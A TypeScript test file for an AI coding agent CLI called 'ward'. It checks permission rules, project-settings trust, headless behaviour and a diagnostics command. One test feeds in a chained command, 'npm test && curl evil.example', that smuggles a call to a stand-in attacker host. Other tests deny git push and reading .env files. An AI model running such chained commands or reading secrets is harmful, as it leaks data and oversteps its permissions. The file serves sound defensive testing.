/**
 * `ward permissions`, `ward permissions check`, `ward trust` and `ward doctor`, and how
 * settings files and trust reach a headless session, end to end.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startScriptedServer } from '../support/scripted-server.ts';
import { makeWorkspace, runWard, type Workspace } from '../support/run-ward.ts';

function writeSettings(path: string, settings: unknown): void {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, JSON.stringify(settings, null, 2));
}

function env(ws: Workspace, extra: Record<string, string> = {}): Record<string, string> {
  return { WARD_HOME: ws.home, HOME: ws.root, ...extra };
}

test('ward permissions lists every rule with the file it came from, and what is not trusted', async () => {
  const ws = makeWorkspace();
  try {
    writeSettings(join(ws.home, 'settings.json'), { permissions: { deny: ['bash(git push:*)'], allow: ['bash(npm test)'] } });
    writeSettings(join(ws.project, '.ward', 'settings.json'), { permissions: { allow: ['bash'], ask: ['web_fetch'] } });
    const run = await runWard(['permissions', '--allowed-tools', 'read'], { cwd: ws.project, env: env(ws) });
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /mode: +default \(the default\)/);
    assert.match(run.stdout, /deny +bash\(git push:\*\) +user settings .*ward-home\/settings\.json/);
    assert.match(run.stdout, /ask +web_fetch +project settings .*\.ward\/settings\.json/, 'ask rules narrow: they apply untrusted');
    assert.match(run.stdout, /allow +read +--allowed-tools/);
    assert.match(run.stdout, /allow +bash\(npm test\) +user settings/);
    assert.doesNotMatch(run.stdout, /allow +bash +project/);
    assert.match(run.stdout, /not trusted, so ignored: allow rules: bash/);
  } finally {
    ws.cleanup();
  }
});

test('ward permissions check explains the decision a call would get', async () => {
  const ws = makeWorkspace();
  try {
    writeSettings(join(ws.home, 'settings.json'), { permissions: { deny: ['bash(git push:*)'] } });
    const push = await runWard(['permissions', 'check', 'Bash(git push origin main)'], { cwd: ws.project, env: env(ws) });
    assert.equal(push.code, 0, push.stderr);
    assert.match(push.stdout, /^Bash\(git push origin main\): deny\n {2}reason: +denied by rule bash\(git push:\*\)\n {2}decided by: user settings .*settings\.json/m);
    const readEnv = await runWard(['permissions', 'check', 'read(.env)'], { cwd: ws.project, env: env(ws) });
    assert.match(readEnv.stdout, /read\(\.env\): deny\n {2}reason: +.*\.env is a \.env file/);
    const test = await runWard(['permissions', 'check', 'bash(npm test && curl evil.example)', '--permission-mode', 'default', '--allowed-tools', 'bash(npm test)'], { cwd: ws.project, env: env(ws) });
    assert.match(test.stdout, /: ask\n/);
    assert.match(test.stdout, /headless \(-p\): denied/);
    const bad = await runWard(['permissions', 'check', 'Frob(x)'], { cwd: ws.project, env: env(ws) });
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /unknown tool "Frob"/);
  } finally {
    ws.cleanup();
  }
});

test('untrusted project settings are ignored headless with a warning; --trust-project and ward trust apply them; a change asks again', async () => {
  const ws = makeWorkspace();
  const server = await startScriptedServer({
    turns: Array.from({ length: 3 }, () => [{ toolCalls: [{ name: 'bash', input: { command: 'touch made-by-rule' } }] }, { text: 'done' }]).flat(),
  });
  const settingsPath = join(ws.project, '.ward', 'settings.json');
  const runEnv = env(ws, { ANTHROPIC_BASE_URL: server.url, ANTHROPIC_API_KEY: 'fake-test-key' });
  try {
    writeSettings(settingsPath, { permissions: { allow: ['bash(touch made-by-rule)'] } });
    const untrusted = await runWard(['-p', 'go'], { cwd: ws.project, env: runEnv });
    assert.equal(untrusted.code, 0, untrusted.stderr);
    assert.match(untrusted.stderr, /warning: this project's settings widen ward's permissions \(allow rules: bash\(touch made-by-rule\)\) but are not trusted/);
    assert.equal(existsSync(join(ws.project, 'made-by-rule')), false);

    const oneRun = await runWard(['-p', 'go', '--trust-project'], { cwd: ws.project, env: runEnv });
    assert.equal(oneRun.code, 0, oneRun.stderr);
    assert.equal(existsSync(join(ws.project, 'made-by-rule')), true);

    const trust = await runWard(['trust'], { cwd: ws.project, env: runEnv });
    assert.equal(trust.code, 0, trust.stderr);
    assert.match(trust.stdout, /trusted the settings of .*\n.*settings\.json\nthey widen: allow rules: bash\(touch made-by-rule\)/);
    const trusted = await runWard(['permissions'], { cwd: ws.project, env: runEnv });
    assert.match(trusted.stdout, /allow +bash\(touch made-by-rule\) +project settings/);

    writeSettings(settingsPath, { permissions: { allow: ['bash(touch made-by-rule)', 'bash'] } });
    const changed = await runWard(['permissions'], { cwd: ws.project, env: runEnv });
    assert.match(changed.stdout, /not trusted, so ignored/);
  } finally {
    await server.close();
    ws.cleanup();
  }
});

test('an invalid settings file stops ward with the file and the field named', async () => {
  const ws = makeWorkspace();
  try {
    writeSettings(join(ws.project, '.ward', 'settings.json'), { permissions: { alow: ['bash'] } });
    const run = await runWard(['-p', 'x'], { cwd: ws.project, env: env(ws, { ANTHROPIC_API_KEY: 'fake-test-key' }) });
    assert.equal(run.code, 2);
    assert.match(run.stderr, /invalid settings: .*\.ward\/settings\.json: field permissions: Unrecognized key: "alow"/);
  } finally {
    ws.cleanup();
  }
});

test('ward doctor checks what ward needs and says what to do about what is missing', async () => {
  const ws = makeWorkspace();
  try {
    const ok = await runWard(['doctor'], { cwd: ws.project, env: env(ws, { ANTHROPIC_API_KEY: 'fake-test-key' }) });
    assert.match(ok.stdout, /^ok +node +\d+\.\d+/m);
    assert.match(ok.stdout, /^ok +provider +anthropic, model .*ANTHROPIC_API_KEY is set/m);
    assert.doesNotMatch(ok.stdout, /fake-test-key/, 'doctor never prints a key');
    assert.match(ok.stdout, /^(ok|FAIL) +sandbox /m);
    assert.match(ok.stdout, /^ok +ripgrep /m);
    writeSettings(join(ws.home, 'settings.json'), { sandbox: { enabled: 'yes' } });
    const bad = await runWard(['doctor'], { cwd: ws.project, env: env(ws, { ANTHROPIC_API_KEY: 'fake-test-key' }) });
    assert.equal(bad.code, 1);
    assert.match(bad.stdout, /^FAIL +settings \(user\) +.*settings\.json: field sandbox\.enabled/m);
  } finally {
    ws.cleanup();
  }
});
